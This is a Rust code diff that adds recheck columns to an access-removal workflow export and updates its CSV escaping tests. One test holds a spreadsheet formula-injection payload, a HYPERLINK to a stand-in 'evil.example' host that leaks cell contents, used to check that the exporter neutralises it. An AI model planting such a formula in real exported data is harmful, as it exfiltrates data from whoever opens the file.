@@ -259,7 +259,7 @@ pub fn parse_date(raw: &str) -> Result<DateTime<Utc>, NotADate> {
 }
 
 /// The columns, in order (CSV header and JSON keys).
-pub const COLUMNS: [&str; 17] = [
+pub const COLUMNS: [&str; 19] = [
     "workflow_id",
     "person_email",
     "app",
@@ -277,6 +277,8 @@ pub const COLUMNS: [&str; 17] = [
     "entitlements_before",
     "entitlements_after",
     "seconds_to_access_removed",
+    "last_rechecked_at",
+    "recheck_result",
 ];
 
 /// The rows for workflows created in [since, until).
@@ -320,6 +322,10 @@ pub async fn rows(
             "entitlements_before": state.facts.get("entitlements_before").cloned().unwrap_or(Value::Null),
             "entitlements_after": state.facts.get("entitlements_after").cloned().unwrap_or(Value::Null),
             "seconds_to_access_removed": seconds,
+            // What the last recheck after the end found (`still_gone`, `reactivated`,
+            // `recreated`), so a sampled leaver shows that access stayed removed.
+            "last_rechecked_at": state.rechecks.last().map(|r| r.at.to_rfc3339()),
+            "recheck_result": state.rechecks.last().map(|r| r.finding.result.as_str()),
         }));
     }
     Ok(out)
@@ -398,12 +404,12 @@ mod tests {
 
     #[test]
     fn csv_fields_are_quoted_only_when_needed() {
-        assert_eq!(line(json!("plain"), json!(42)), ",plain,,,42,,,,,,,,,,,,");
+        assert_eq!(line(json!("plain"), json!(42)), ",plain,,,42,,,,,,,,,,,,,,");
         assert_eq!(
             line(json!({"a": 1, "b": "x"}), Value::Null),
-            ",\"{\"\"a\"\":1,\"\"b\"\":\"\"x\"\"}\",,,,,,,,,,,,,,,"
+            ",\"{\"\"a\"\":1,\"\"b\"\":\"\"x\"\"}\",,,,,,,,,,,,,,,,,"
         );
-        assert_eq!(line(json!("a,b"), json!(-3)), ",\"a,b\",,,-3,,,,,,,,,,,,");
+        assert_eq!(line(json!("a,b"), json!(-3)), ",\"a,b\",,,-3,,,,,,,,,,,,,,");
     }
 
     #[test]
@@ -411,7 +417,7 @@ mod tests {
         let attack = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
         assert_eq!(
             line(json!(attack), json!("@SUM(1+1)")),
-            r#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",,,"'@SUM(1+1)",,,,,,,,,,,,"#
+            r#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",,,"'@SUM(1+1)",,,,,,,,,,,,,,"#
         );
         for lead in ["+", "-", "\t", "\r"] {
             let text = format!("{lead}1+1");
